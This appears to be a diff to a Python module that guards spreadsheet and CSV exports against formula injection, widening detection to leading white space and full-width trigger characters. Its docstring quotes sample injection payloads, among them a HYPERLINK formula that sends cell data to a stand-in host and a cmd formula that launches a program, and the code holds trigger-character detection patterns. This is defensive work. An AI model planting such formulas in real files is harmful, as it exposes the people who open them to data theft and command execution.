@@ -4,8 +4,11 @@ Transcript text, a theme name a judge typed, a case id taken from a file name: a
 of them may begin with ``=``, ``+``, ``-`` or ``@``, which Excel, LibreOffice and
 Google Sheets read as the start of a formula (``=HYPERLINK("http://x?d="&E2,"x")``
 sends the cells beside it away, ``=cmd|' /C calc'!A0`` starts a program on old
-Excel, ``=WEBSERVICE(...)`` fetches a URL). Every workbook and every CSV meant for
-a spreadsheet that Consensa writes goes through this module:
+Excel, ``=WEBSERVICE(...)`` fetches a URL); so they do after leading white space,
+which an import can trim, and in their full-width forms ``＝＋－＠``, which an East
+Asian input method types and a spreadsheet may read as the ASCII ones. Every
+workbook and every CSV meant for a spreadsheet that Consensa writes goes through
+this module:
 
 * :func:`set_cell` and :func:`append_row` write a ``str`` as a string cell (data
   type ``"s"``) whatever it starts with, never as a formula; one that looks like a
@@ -13,10 +16,11 @@ a spreadsheet that Consensa writes goes through this module:
   cell. They drop the control characters an .xlsx cannot hold (:func:`xml_safe`),
   so no writer fails with openpyxl's ``IllegalCharacterError``.
 * :func:`to_csv` (:func:`neutralise_frame`) puts a single quote before a text cell
-  that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's
-  advice against CSV injection). Numbers are left alone: numeric columns are not
-  touched, and neither is text that is exactly a decimal number (``-1``), which a
-  spreadsheet reads as that number and never as a formula.
+  that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, after any
+  white space and in either width (OWASP's advice against CSV injection). Numbers
+  are left alone: numeric columns are not touched, and neither is text that is
+  exactly a decimal number (``-1``), which a spreadsheet reads as that number and
+  never as a formula.
 * :func:`restore_frame` (:func:`restore`) undoes the quote exactly. Consensa reads
   its own CSVs back through it, so a theme name or a quote is the same text after
   the round trip. Text that already begins with quotes before such a character
@@ -37,13 +41,16 @@ import numpy as np
 import pandas as pd
 
 #: First characters that make a spreadsheet read a cell as a formula (or, for tab and
-#: carriage return, that hide one behind white space when the file is imported).
-TRIGGERS = frozenset("=+-@\t\r")
+#: carriage return, that hide one behind white space when the file is imported), in
+#: ASCII and full width.
+TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
 
-_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
-_QUOTED = re.compile(r"'+[=+\-@\t\r]")
+#: A formula's start: a trigger after any white space (a spreadsheet trims it on import)
+_FORMULA = re.compile(r"\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
+_NEEDS_QUOTE = re.compile(r"'*" + _FORMULA.pattern)
+_QUOTED = re.compile(r"'+" + _FORMULA.pattern)
 _NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
-_FIRST = TRIGGERS | {"'"}          # what a changed cell starts with, either way
+_FIRST = TRIGGERS | {"'"}          # what a changed cell starts with, either way (or space)
 #: form feed and vertical tab separate words (page and line breaks): they become spaces
 _AS_SPACE = frozenset("\x0b\x0c")
 
@@ -122,7 +129,8 @@ def _map_frame(df: pd.DataFrame, fn) -> pd.DataFrame:
         if isinstance(col.dtype, pd.CategoricalDtype):
             col = col.astype(object)
         values = col.tolist()
-        hits = [j for j, v in enumerate(values) if isinstance(v, str) and v[:1] in _FIRST]
+        hits = [j for j, v in enumerate(values)
+                if isinstance(v, str) and (v[:1] in _FIRST or v[:1].isspace())]
         if not hits:
             continue
         for j in hits:
@@ -248,7 +256,7 @@ def _as_text(cell) -> None:
     """Make a cell holding a str a string cell, never a formula."""
     if isinstance(cell.value, str):
         cell.data_type = "s"
-        if cell.value[:1] in TRIGGERS:
+        if _FORMULA.match(cell.value):
             cell.quotePrefix = True      # Excel keeps it text when the cell is edited
 
 
